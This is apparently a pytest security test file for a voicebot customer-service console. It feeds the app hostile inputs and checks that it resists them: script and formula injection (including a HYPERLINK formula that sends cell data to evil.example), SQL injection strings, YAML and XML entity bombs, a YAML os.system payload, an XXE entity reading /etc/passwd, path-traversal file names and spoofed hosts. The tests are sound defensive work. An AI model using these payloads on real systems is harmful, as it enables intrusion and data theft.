"""The usual attacks: scripts and formulas in what people write, injection, bombs in files, endless bodies, wrong hosts.

Sessions, forgeries, guessing and the way back after a login are in test_login.py, roles in test_roles.py and
test_crawl.py, names of recordings in test_recordings.py and test_calls.py.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.routing import APIRoute
from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from starlette.routing import BaseRoute

from tests.console.conftest import BASE, House, hidden
from tests.console.test_api import program
from tests.console.test_campaigns import receive, send, yaml
from tests.console.test_campaigns import shop as campaigning
from tests.console.test_crawl import Crawl, addresses, shop
from voicebot.campaign import sheets
from voicebot.console import api_gate
from voicebot.console.ticketing import Ticketing
from voicebot.errors import VoicebotError
from voicebot.records.archive import Correction
from voicebot.records.audit import Deed
from voicebot.shop.tables import Customer, Order, Ticket

__all__ = ["campaigning", "shop"]

EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{7*7}}"
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'


# -- scripts and formulas ---------------------------------------------------------------------------------------


def everywhere(house: House, text: str) -> None:
    """Somebody has managed to write this wherever people write."""
    memory, now = house.desk.memory, house.time[0]
    with memory.database.writing() as session:
        for ticket in session.scalars(select(Ticket)):
            ticket.item, ticket.summary, ticket.transcript, ticket.remedy = text[:60], text, text, text
            number = ticket.number
        for customer in session.scalars(select(Customer)):
            customer.name = text[:40]
        for order in session.scalars(select(Order)):
            order.recipient, order.address = text[:40], text
    Ticketing(memory).comment(number, text, text[:40], now)
    memory.archive.correct(2, 3, Correction(text[:40], now, text, text[:40], text))
    memory.audit.note(Deed(now, text[:40], text[:30], text, text, text[:45]))
    user = memory.users.named("ops")
    assert user is not None
    memory.entrance.give_token(user, text, now)
    head, cell = "手机号,姓,称呼,同意来源,同意日期", text.replace('"', '""')
    contacts = f'{head}\n13800006613,"{cell}",女士,会员注册,2026-03-12\n'
    title = text.replace("'", "''")
    sent = send(house.client("ops"), yaml(name="evil", title=f"'{title}'"), contacts=contacts)
    assert sent.status_code in {200, 303}


def test_a_script_that_anybody_wrote_is_text_on_every_page(shop: House) -> None:
    everywhere(shop, EVIL)
    root = shop.client("root")
    crawl = Crawl(shop, root).run([one for one in addresses(shop, "admin") if one.startswith("/console")])
    crawl.run(["/console/campaigns/evil", "/console/campaigns/evil/plan", "/console/campaigns/evil/log"])
    pages = {
        path: one.text for path, one in crawl.got.items() if "html" in one.headers.get("content-type", "")
    }
    told = [path for path, text in pages.items() if "&lt;script&gt;alert(1)" in text]
    assert len(told) >= 8, told
    for path, text in pages.items():
        assert "<script>alert" not in text, path
        assert "<img src=x" not in text, path
        assert ">49<" not in text, path
        assert "unsafe" not in crawl.got[path].headers["content-security-policy"]


def test_nothing_that_leaves_is_taken_for_a_formula(shop: House) -> None:
    everywhere(shop, FORMULA)
    ops = shop.client("ops")
    tables = [ops.get("/console/tickets.csv?status="), ops.get("/console/tickets/tickets.csv?status=")]
    clear = {"reason": "联系客户"}
    tables.append(ops.post("/console/campaigns/evil/results", form="csv", **clear))
    tables.append(ops.get("/console/numbers/figures.csv"))
    rows = [row for one in tables if one.status_code == 200 for row in csv.reader(io.StringIO(one.text))]
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.lstrip("\ufeff").startswith(("=", "@", "\t", "\r"))]
    answer = ops.post("/console/campaigns/evil/results", form="xlsx", **clear)
    book = load_workbook(io.BytesIO(answer.content))
    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


# -- injection --------------------------------------------------------------------------------------------------

INJECTIONS = (
    "' OR '1'='1",
    "%' UNION SELECT password FROM users --",
    "\0",
    "9" * 40,
)


def queries(routes: list[BaseRoute]) -> Iterator[tuple[str, list[str]]]:
    """Every GET route with the names of what its address may ask."""
    for route in routes:
        inner = getattr(route, "original_router", None)
        if isinstance(route, APIRoute) and "GET" in route.methods:
            yield route.path, [one.alias for one in route.dependant.query_params]
        elif inner is not None:
            yield from queries(inner.routes)


def test_no_address_reaches_into_the_database(shop: House) -> None:
    for text in INJECTIONS:
        nothing_is_injected(shop, text)


def nothing_is_injected(shop: House, text: str) -> None:
    root, robot = shop.client("root"), program(shop, "root")
    hashes = shop.desk.memory.users.listed()
    known = (
        "what",
        "who",
        "status",
        "assignee",
        "department",
        "first",
        "last",
        "q",
        "page",
        "before",
        "line",
        "name",
    )
    for path, names in queries(shop.app.routes):
        who = robot if path.startswith("/api") else root
        whole = path.replace("{number}", "1").replace(
            "{name}", httpx.URL(path="/" + text.replace("\0", "0")).path[1:]
        )
        answer = who.get(
            whole.replace("{", "").replace("}", ""), params=dict.fromkeys({*names, *known}, text)
        )
        assert answer.status_code < 500, (path, text)
        assert "argon2" not in answer.text
        assert "sqlalchemy" not in answer.text.lower()
    for form in ({"caller": text}, {"text": text}, {"intent": text}, {"first": text}):
        assert root.post("/console/calls/search", **form).status_code < 500
    assert shop.desk.memory.users.listed() == hashes


# -- files ------------------------------------------------------------------------------------------------------

LAUGHS = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10)
)


@pytest.mark.parametrize(
    "bomb",
    [
        f"{LAUGHS}title: *a9\n",
        f"{LAUGHS}facts: *a9\n",
        "title: &a [*a]\n",
        "title: &a {x: *a}\n",
        "title: " + "[" * 20_000,
        "title: !!python/object/apply:os.system ['true']\n",
        "\0",
        "title: " + "x" * 100_000,
    ],
)
def test_a_bomb_in_a_campaigns_file_is_told(campaigning: House, bomb: str) -> None:
    answer = send(campaigning.client("ops"), f"{yaml(name='bomb')}\n{bomb}")
    assert answer.status_code in {200, 400}
    assert campaigning.client("ops").get("/console/campaigns/bomb").status_code == 404


def workbook(cell: str = "13800006612") -> bytes:
    book, out = Workbook(), io.BytesIO()
    assert book.active is not None
    book.active.append(["手机号"])
    book.active.append([cell])
    book.save(out)
    return out.getvalue()


def rewritten(data: bytes, name: str, content: bytes) -> bytes:
    """The same workbook with other content in one of its files."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for one in old.namelist():
            new.writestr(one, content if one == name else old.read(one))
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "xxxxxxxxxx">' + b"".join(
    b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def test_an_archive_that_unfolds_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MOST_UNPACKED", 1 << 20)
    bomb = rewritten(workbook(), SHEET, bytes(2 << 20))
    assert len(bomb) < 20_000
    with pytest.raises(VoicebotError, match="2 MB when unpacked"):
        sheets.read_sheet(bomb, "x.xlsx")
    size = (2 << 20).to_bytes(4, "little")
    assert bomb.count(size) == 2
    with pytest.raises(VoicebotError, match=r"cannot be read as \.xlsx"):
        sheets.read_sheet(bomb.replace(size, (1000).to_bytes(4, "little")), "x.xlsx")


@pytest.mark.parametrize("content", [ENTITIES + b"]><x>&a11;</x>", OUTSIDE, b"<x", b"", b"\xff" * 100])
def test_a_made_up_workbook_is_told(campaigning: House, content: bytes) -> None:
    table = rewritten(workbook(), SHEET, content)
    ops = campaigning.client("ops")
    assert send(ops, yaml()).status_code in {200, 303}
    answer = receive(ops, table, "x.xlsx")
    assert answer.status_code < 500
    assert "root:" not in answer.text


@pytest.mark.parametrize(
    "name", ["../../evil.yaml", "/etc/passwd", "a\\..\\b.csv", "x" * 4000, "\0.csv", EVIL]
)
def test_the_name_of_a_file_leads_nowhere(campaigning: House, name: str, tmp_path: Path) -> None:
    before = files(tmp_path)
    answer = receive(campaigning.client("ops"), "手机号\n13800006612\n".encode(), name)
    assert answer.status_code < 500
    assert "<script>alert" not in answer.text
    assert files(tmp_path) == before


def files(folder: Path) -> set[Path]:
    return {path for path in folder.rglob("*") if path.is_file() and not path.name.startswith("shop.db")}


# -- bodies and hosts -------------------------------------------------------------------------------------------


def endless(size: int) -> Any:
    """A body that says nothing of its length."""

    async def pieces() -> Any:
        for _ in range(size >> 16):
            counted.append(1)
            yield b" " * (1 << 16)

    counted: list[int] = []
    return pieces(), counted


def test_a_body_is_read_no_farther_than_it_may_be_long(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(api_gate, "LARGEST_BODY", 1 << 20)
    robot, nobody = program(house, "root"), program(house, None)
    body, read = endless(8 << 20)
    headers = {"content-type": "application/json"}
    assert robot.request("POST", "/api/calls/search", content=body, headers=headers).status_code == 413
    assert len(read) < 20
    for who in (nobody, program(house, "ann")):
        body, read = endless(8 << 20)
        assert who.request("POST", "/api/calls/search", content=body, headers=headers).status_code in {
            401,
            403,
        }
        assert read == []
    browser = house.client("ops")
    for path in ("/console/calls/search", "/console/login"):
        body, read = endless(8 << 20)
        form = {"content-type": "application/x-www-form-urlencoded"}
        assert browser.request("POST", path, content=body, headers=form).status_code == 413
        assert len(read) < 4


@pytest.mark.parametrize("body", ["[" * 50_000, '{"a":' * 50_000, "[1e999]", '"\\ud800"', "{", "\x00", "nul"])
def test_json_that_is_none_is_told(house: House, body: str) -> None:
    robot = program(house, "root")
    answer = robot.request(
        "POST", "/api/calls/search", content=body.encode(), headers={"content-type": "application/json"}
    )
    assert answer.status_code in {400, 422}


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:80", "console.test@evil.example", "evil.example/x"]
)
def test_a_host_that_somebody_made_up_stands_in_no_answer(house: House, host: str) -> None:
    browser = house.client()
    page = browser.get("/console/login", headers={"Host": host})
    form = {
        "name": "ann",
        "password": "correct-horse-1",
        "before": hidden(page.text, "before"),
        "to": f"//{host}",
    }
    entered = browser.send("/console/login", form, headers={"Host": host, "X-Forwarded-Host": host})
    for answer in (page, entered, browser.get("/console/users", headers={"Host": host})):
        assert "evil" not in answer.text
        assert "evil" not in answer.headers.get("location", "")
        assert "domain=" not in answer.headers.get("set-cookie", "").lower()


def test_a_form_from_elsewhere_is_refused_whatever_host_it_names(house: House) -> None:
    browser = house.client("ops")
    csrf = hidden(browser.get("/console/password").text, "csrf")
    evil = {"Origin": "http://evil.example", "X-Forwarded-Host": "evil.example"}
    assert browser.send("/console/calls/search", {"csrf": csrf}, headers=evil).status_code == 403
    assert browser.send("/console/calls/search", {"csrf": csrf}, headers={"Origin": BASE}).status_code == 303
